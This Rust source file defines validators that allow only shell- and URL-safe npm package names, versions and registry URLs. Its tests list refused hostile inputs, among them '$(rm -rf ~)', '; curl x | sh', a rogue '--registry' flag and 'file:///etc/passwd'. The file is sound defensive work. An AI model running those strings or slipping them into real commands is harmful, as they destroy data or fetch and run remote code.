//! Values that may be put into a command: each type accepts only what is harmless in every shell and URL.

/// A package name that may be put into a command.
///
/// Stricter than the registry's rule for old names (which allowed `! ' ( ) *`): ASCII letters, digits and `._~-`,
/// an optional scope, at most 214 characters, never starting with `-` or `.`
/// (<https://github.com/npm/validate-npm-package-name>).
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct PackageName(String);

impl PackageName {
    /// Accepts `text` if it is a package name.
    pub fn parse(text: &str) -> Option<Self> {
        let (scope, name) = match text.strip_prefix('@') {
            Some(rest) => {
                let (scope, name) = rest.split_once('/')?;
                (Some(scope), name)
            }
            None => (None, text),
        };
        let scope_is_fine = scope.is_none_or(|scope| {
            starts_with(scope, |c| c.is_ascii_lowercase() || c.is_ascii_digit())
                && scope.chars().all(is_name_char)
        });
        let name_is_fine =
            starts_with(name, |c| c.is_ascii_alphanumeric() || c == '_') && name.chars().all(is_name_char);
        (scope_is_fine && name_is_fine && text.len() <= 214).then(|| Self(text.to_owned()))
    }

    /// The whole name.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The scope with its `@`, if there is one.
    pub fn scope(&self) -> Option<&str> {
        self.0.starts_with('@').then(|| self.0.split('/').next()).flatten()
    }

    /// The name without its scope.
    pub fn bare(&self) -> &str {
        self.0.rsplit('/').next().unwrap_or(&self.0)
    }
}

fn starts_with(text: &str, accept: impl Fn(char) -> bool) -> bool {
    text.chars().next().is_some_and(accept)
}

fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '~' | '-')
}

/// Whether `text` is a scope (`@name`) that may be put into a command.
pub fn is_scope(text: &str) -> bool {
    text.strip_prefix('@').is_some_and(|rest| {
        starts_with(rest, |c| c.is_ascii_lowercase() || c.is_ascii_digit()) && rest.chars().all(is_name_char)
    })
}

/// Whether `text` is a user or team name (`org:team`) that may be put into a command.
pub fn is_account(text: &str) -> bool {
    starts_with(text, |c| c.is_ascii_alphanumeric())
        && text.len() <= 128
        && text.chars().all(|c| is_name_char(c) || matches!(c, ':' | '@' | '/'))
}

/// An exact version or a dist-tag that may be put into a command; never a range.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct ExactVersion(String);

impl ExactVersion {
    /// Accepts `text` if it starts with a letter or digit and holds only `[0-9A-Za-z.+_-]`.
    pub fn parse(text: &str) -> Option<Self> {
        let fine = starts_with(text, |c| c.is_ascii_alphanumeric())
            && text.len() <= 256
            && text.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '_' | '-'));
        fine.then(|| Self(text.to_owned()))
    }

    /// The version as text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// A registry's base URL that may be put into a command: parsed, re-serialised, with a trailing slash,
/// without user info, query or fragment, its host in ASCII.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RegistryUrl(String);

impl RegistryUrl {
    /// Accepts `text` if it is an http(s) URL whose re-serialised path holds only `[A-Za-z0-9._~/@:+%-]`.
    pub fn parse(text: &str) -> Option<Self> {
        let mut url = url::Url::parse(text).ok()?;
        let plain = matches!(url.scheme(), "http" | "https")
            && url.username().is_empty()
            && url.password().is_none()
            && url.query().is_none()
            && url.fragment().is_none()
            && url.host_str().is_some_and(is_host);
        if !plain {
            return None;
        }
        if !url.path().ends_with('/') {
            let path = format!("{}/", url.path());
            url.set_path(&path);
        }
        let path_is_fine =
            url.path().chars().all(|c| is_name_char(c) || matches!(c, '/' | '@' | ':' | '+' | '%'));
        path_is_fine.then(|| Self(url.into()))
    }

    /// The URL with its trailing slash.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The URL as a key of `.npmrc`: without scheme, for example `//host/path/`
    /// (<https://docs.npmjs.com/cli/v11/configuring-npm/npmrc#auth-related-configuration>).
    pub fn npmrc_key(&self) -> &str {
        self.0.split_once(':').map_or(&self.0, |(_, rest)| rest)
    }
}

/// Whether `host` is an ASCII host name or IP literal without anything a shell or URL could misread.
pub fn is_host(host: &str) -> bool {
    !host.is_empty()
        && host.len() <= 253
        && host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '[' | ']'))
        && !host.starts_with('-')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn package_names_that_could_act_in_a_shell_are_refused() {
        for good in ["left-pad", "@acme/ui", "JSONStream", "_", "a.b~c"] {
            assert!(PackageName::parse(good).is_some(), "{good}");
        }
        for bad in [
            "",
            "-rf",
            "--registry=http://evil",
            "$(rm -rf ~)",
            "; curl x | sh",
            "@acme",
            "@/x",
            "a b",
            "a/b",
            "@a/b/c",
            "l\u{435}ft-pad",
            "a\u{202e}b",
            "../x",
            ".hidden",
            "a'b",
        ] {
            assert!(PackageName::parse(bad).is_none(), "{bad}");
        }
        assert!(PackageName::parse(&"a".repeat(215)).is_none());
    }

    #[test]
    fn a_registry_url_is_re_serialised_and_never_carries_a_secret() {
        let url = RegistryUrl::parse("HTTPS://Artifactory.Acme.example/api/npm/npm").unwrap();
        assert_eq!(url.as_str(), "https://artifactory.acme.example/api/npm/npm/");
        assert_eq!(url.npmrc_key(), "//artifactory.acme.example/api/npm/npm/");
        for bad in [
            "https://user:pass@host/",
            "https://host/?token=1",
            "file:///etc/passwd",
            "https://host/#x",
            "javascript:alert(1)",
            "https://host/$(id)/",
        ] {
            assert!(RegistryUrl::parse(bad).is_none(), "{bad}");
        }
    }

    #[test]
    fn ranges_are_not_exact_versions() {
        for good in ["1.0.2", "1.0.0-beta.1", "latest", "1.0.0+build.5"] {
            assert!(ExactVersion::parse(good).is_some(), "{good}");
        }
        for bad in ["^1.2.3", ">=1", "1 || 2", "-1", "*", "1.0.0;id"] {
            assert!(ExactVersion::parse(bad).is_none(), "{bad}");
        }
    }
}
